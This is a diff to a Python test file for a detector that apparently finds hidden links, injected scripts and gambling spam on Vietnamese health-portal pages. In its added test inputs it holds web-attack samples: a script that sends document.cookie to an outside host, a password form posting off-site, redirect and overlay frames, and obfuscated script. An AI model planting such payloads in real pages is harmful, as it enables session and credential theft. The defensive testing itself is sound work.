@@ -109,6 +109,10 @@ def test_spam_that_calls_itself_no_fraud_is_no_warning():
         "margin-left:-9999px",
         "color:transparent",
         "font-size:1px",
+        "left:-300em;position:absolute",
+        "height:0em;overflow:hidden",
+        "color:#fdfefc",
+        "color:rgb(250, 250, 250);background:rgb(245, 245, 245)",
     ],
 )
 def test_a_link_hidden_by_a_style_is_seen_with_the_way_it_is_hidden(style):
@@ -126,6 +130,12 @@ def test_a_link_hidden_by_a_style_is_seen_with_the_way_it_is_hidden(style):
         '<a aria-hidden="true" tabindex="-1" href="https://x.example.com">x</a>',
         '<style>.q{left:-9999px;position:absolute}</style><p class="q"><a href="https://x.example.com">x</a></p>',
         '<p id="q"><a href="//x.example.com">x</a></p><script>getElementById("q").style.display="none"</script>',
+        '<style>p > .q, .r a{display:none}</style><p class="r"><a href="https://x.example.com">x</a></p>',
+        '<style>@media screen{.a,.q{left:-9999px}}</style><p class="q"><a href="https://x.example.com">x</a></p>',
+        '<p class="q"><a href="//x.example.com">x</a></p><script>$(".q").hide()</script>',
+        '<p class="q"><a href="//x.example.com">x</a></p><script>$(\'.q\').css("display","none")</script>',
+        '<p id="q"><a href="//x.example.com">x</a></p>'
+        '<script>e=document.getElementById("q");e.style.display="none"</script>',
         '<div style="background:#fff"><p style="color:rgb(255, 255, 255)"><a href="//x.example.com">x</a></p></div>',
     ],
 )
@@ -142,6 +152,9 @@ def test_a_link_hidden_otherwise_is_seen(block):
         '<table><tr style="background:#c00"><th style="color:#fff"><a href="https://who.int">WHO</a></th></tr></table>',
         '<div hidden><a href="https://www.facebook.com/sharer">Chia sẻ</a></div>',
         '<p style="font-size:1.2em;opacity:inherit"><a href="https://a.example.com">chữ</a></p>',
+        '<p style="left:-100%;top:0.5em;font-size:.5em"><a href="https://a.example.com">chữ</a></p>',
+        '<p style="color:#eee"><a href="https://a.example.com">chữ</a></p>',
+        '<style>.khac{display:none}</style><p class="q"><a href="https://a.example.com">chữ</a></p>',
     ],
 )
 def test_what_portals_hide_for_good_reasons_raises_no_suspicion(block):
@@ -157,6 +170,13 @@ def test_what_portals_hide_for_good_reasons_raises_no_suspicion(block):
         '<script>location.href="https://a.example.com"</script>',
         "<img src=x onerror=\"eval('x')\">",
         '<iframe src="https://a.example.com" width="0" height="0"></iframe>',
+        '<iframe src="https://a.example.com" style="position:fixed;width:100%;height:100vh"></iframe>',
+        """<meta http-equiv="refresh" content="0; URL='https://a.example.com/'">""",
+        "<body onload=\"window.open('https://a.example.com')\">",
+        '<script>new Image().src="https://a.example.com/c?"+document.cookie</script>',
+        "<script>var _0x3fa1=1</script>",
+        '<script>window["loc"+"ation"]=x</script>',
+        '<form action="https://a.example.com/"><input type="password"></form>',
     ],
 )
 def test_injected_scripts_and_frames_are_seen(code):
@@ -171,6 +191,11 @@ def test_injected_scripts_and_frames_are_seen(code):
         '<script async src="https://www.googletagmanager.com/gtag/js"></script>',
         '<iframe src="https://www.youtube.com/embed/x"></iframe>',
         '<script src="/js/site.js"></script>',
+        '<script>var nen = "https://a.example.com/nen.png";</script>',
+        '<form action="/dang-nhap"><input type="password"><input type="hidden" value="9f8a7"></form>',
+        '<form action="https://a.example.com/tim"><input name="q"></form>',
+        '<iframe src="https://a.example.com" style="position:absolute;width:100%;height:100%"></iframe>',
+        '<img src="/a.jpg" onerror="this.src=\'/b.png\'">',
     ],
 )
 def test_counters_videos_and_own_scripts_raise_no_suspicion(code):
@@ -191,6 +216,44 @@ def test_a_link_to_a_host_named_like_spam_is_seen_whatever_it_is_called(host):
     assert host in found.seen
 
 
+@pytest.mark.parametrize(
+    "address",
+    ["/go?u=https://kubet-77.pro/", "/go.aspx?x=1&url=https%3A%2F%2Fkubet-77.pro", "https://l.x.vn/?//nohu99.club"],
+)
+def test_a_link_that_passes_on_to_such_a_host_is_seen(address):
+    assert seen(f'<p><a href="{address}">xem</a></p>') is not None
+    assert seen('<p><a href="/go?u=https://moh.gov.vn/">xem</a></p>') is None
+
+
+@pytest.mark.parametrize("words", ["nhà cái uy tín, tài xỉu", "game bài đổi thưởng"])
+@pytest.mark.parametrize(
+    "tag", ['<img src="/a.jpg" alt="{}">', '<a href="/a" title="{}">x</a>', '<input type=hidden value="{}">']
+)
+def test_words_that_stand_in_attributes_alone_are_seen(tag, words):
+    found = seen(tag.format(words))
+    assert found is not None and "in attributes that nobody sees" in " ".join(found.because)
+
+
+def test_a_picture_described_in_the_words_of_a_warning_raises_no_suspicion():
+    picture = '<img src="/a.jpg" alt="Người bệnh nghiện cờ bạc, tài xỉu được điều trị">'
+    assert seen(picture) is None
+
+
+@pytest.mark.parametrize(
+    ("text", "foreign"),
+    [
+        ("Zarejestruj się i odbierz bonus powitalny już teraz, wypłaty w ciągu kilku godzin bez opłat", True),
+        ("La délégation a visité le service de réanimation néonatale, un accord est signé", True),
+        ("Trạm y tế phường mở cửa cả tuần để người dân đi tiêm và khám bệnh thuận tiện hơn trước", False),
+        ("The department of health asks all residents to clear the water containers in their homes", False),
+        ("Bonjour tout le monde", False),  # too short to tell
+    ],
+)  # fmt: skip
+def test_a_foreign_tongue_is_told_and_is_not_enough_alone(text, foreign):
+    assert spam.words().is_foreign(text) is foreign
+    assert seen(f"<p>{text}</p>") is None
+
+
 def test_a_domain_the_source_linked_to_before_is_no_news():
     hides = '<div style="display:none"><a href="https://lich.example.com/">lịch</a></div>'
     assert seen(hides) is not None
@@ -207,7 +270,13 @@ def test_a_title_unlike_the_source_is_seen(title):
 
 
 @pytest.mark.parametrize(
-    "title", ["Khai báo tại tokhaiyte.vn", "Châm cứu (針灸) cho người già", "Viet Nam and WHO sign agreement"]
+    "title",
+    [
+        "海防市卫生厅通知",
+        "Khai báo tại tokhaiyte.vn",
+        "Châm cứu (針灸) cho người già",
+        "Viet Nam and WHO sign agreement",
+    ],
 )
 def test_a_title_with_an_official_domain_or_some_foreign_words_is_not(title):
     assert seen(title=title) is None
